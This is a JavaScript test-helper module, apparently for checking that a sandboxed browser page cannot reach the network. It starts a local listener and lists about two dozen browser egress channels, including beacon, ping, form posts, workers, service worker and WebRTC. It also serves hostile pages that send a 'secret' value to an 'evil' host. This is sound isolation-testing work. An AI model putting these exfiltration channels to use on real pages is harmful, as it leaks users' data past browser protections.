// A page that tries every way out, and somebody outside who waits for it.
import { once } from 'node:events';
import { createSocket } from 'node:dgram';
import { createServer } from 'node:net';

// Somebody who counts every connection and datagram, whatever it is for.
export async function lurk(t) {
  const lurker = { connections: 0, datagrams: 0 };
  const server = createServer(socket => {
    lurker.connections += 1;
    socket.destroy();
  }).listen(0, '127.0.0.1');
  await once(server, 'listening');
  lurker.port = server.address().port;
  const datagrams = createSocket('udp4').on('message', () => (lurker.datagrams += 1)).bind(lurker.port, '127.0.0.1');
  await once(datagrams, 'listening');
  t.after(() => (server.close(), datagrams.close()));
  lurker.url = `http://127.0.0.1:${lurker.port}`;
  return lurker;
}

// Each tries to reach `to` and is done when the browser says that it has failed, or has not.
export const waysOut = {
  image: to => `new Promise(done => { const image = new Image(); image.onload = image.onerror = done; image.src = '${to}/image'; })`,
  fetch: to => `fetch('${to}/fetch', { mode: 'no-cors' }).catch(() => {})`,
  script: to => `new Promise(done => { const script = document.createElement('script'); script.onload = script.onerror = done; script.src = '${to}/script'; document.head.append(script); })`,
  style: to => `new Promise(done => { const link = document.createElement('link'); link.rel = 'stylesheet'; link.onload = link.onerror = done; link.href = '${to}/style'; document.head.append(link); })`,
  preload: to => `new Promise(done => { const link = document.createElement('link'); link.rel = 'preload'; link.as = 'image'; link.onload = link.onerror = done; link.href = '${to}/preload'; document.head.append(link); })`,
  cssImport: to => `new Promise(done => { const style = document.createElement('style'); style.onload = style.onerror = done; style.textContent = "@import '${to}/import.css'"; document.head.append(style); })`,
  cssImage: to => `document.body.style.background = 'url(${to}/background)'`,
  font: to => `new FontFace('away', 'url(${to}/font)').load().catch(() => {})`,
  module: to => `import('${to}/module.js').catch(() => {})`,
  video: to => `new Promise(done => { const video = document.createElement('video'); video.onerror = done; video.src = '${to}/video'; })`,
  object: to => `new Promise(done => { const object = document.createElement('object'); object.onload = object.onerror = done; object.data = '${to}/object'; document.body.append(object); })`,
  beacon: to => `navigator.sendBeacon('${to}/beacon', 'secret')`,
  ping: to => `(() => { const link = document.createElement('a'); link.href = '#'; link.ping = '${to}/ping'; document.body.append(link); link.click(); })()`,
  prefetch: to => `(() => { const link = document.createElement('link'); link.rel = 'prefetch'; link.href = '${to}/prefetch'; document.head.append(link); })()`,
  keepalive: to => `fetch('${to}/keepalive', { mode: 'no-cors', keepalive: true }).catch(() => {})`,
  formFrame: to => `(() => { const frame = document.createElement('iframe'); frame.name = 'inner'; document.body.append(frame); const form = document.createElement('form'); form.action = '${to}/inner-form'; form.target = 'inner'; form.method = 'post'; document.body.append(form); form.submit(); })()`,
  redirect: () => `fetch('/away', { mode: 'no-cors' }).catch(() => {})`,
  frame: to => `new Promise(done => { const frame = document.createElement('iframe'); frame.onload = done; frame.src = '${to}/frame'; document.body.append(frame); })`,
  webSocket: to => `new Promise(done => { const socket = new WebSocket('${to.replace('http', 'ws')}/socket'); socket.onopen = socket.onerror = done; })`,
  eventSource: to => `new Promise(done => { const source = new EventSource('${to}/events'); source.onopen = source.onerror = () => (source.close(), done()); })`,
  worker: to => `new Promise(done => { new Worker(URL.createObjectURL(new Blob(["fetch('${to}/worker', { mode: 'no-cors' }).catch(() => {}).then(() => postMessage(0))"]))).onmessage = done; })`,
  sharedWorker: to => `new Promise(done => { const worker = new SharedWorker('/shared.js?' + encodeURIComponent('${to}')); worker.port.onmessage = done; worker.onerror = done; worker.port.start(); })`,
  serviceWorker: () => `navigator.serviceWorker.register('/service.js').then(async registration => { const { active, installing } = registration; await new Promise(done => { navigator.serviceWorker.onmessage = done; (active ?? installing).postMessage(0); }); }).catch(() => {})`,
  webRtc: to => `new Promise(async done => { const peer = new RTCPeerConnection({ iceServers: [{ urls: ['stun:127.0.0.1:${new URL(to).port}', 'turn:127.0.0.1:${new URL(to).port}?transport=tcp'], username: 'a', credential: 'b' }] }); peer.onicegatheringstatechange = () => { if (peer.iceGatheringState === 'complete') done(); }; peer.createDataChannel('x'); await peer.setLocalDescription(await peer.createOffer()); })`,
};

export const hostilePages = evil => ({
  '/': '<title>Hostile</title><button onclick="window.open(\'' + evil + '/popup\')">Popup</button><a href="' + evil + '/link">Link</a>'
    + '<form action="' + evil + '/form" method="post"><input name="secret" value="1"><button>Post</button></form>',
  '/away': (_, response) => response.writeHead(302, { Location: `${evil}/redirect` }).end(),
  '/refresh': `<meta http-equiv="refresh" content="0; url=${evil}/refresh">`,
  '/shared.js': (request, response) => response.writeHead(200, { 'Content-Type': 'text/javascript' })
    .end("onconnect = ({ ports: [port] }) => fetch(decodeURIComponent(location.search.slice(1)) + '/shared', { mode: 'no-cors' }).catch(() => {}).then(() => port.postMessage(0));"),
  '/service.js': (_, response) => response.writeHead(200, { 'Content-Type': 'text/javascript' })
    .end(`onmessage = event => event.waitUntil(fetch('${evil}/service', { mode: 'no-cors' }).catch(() => {}).then(() => event.source.postMessage(0)));`),
});
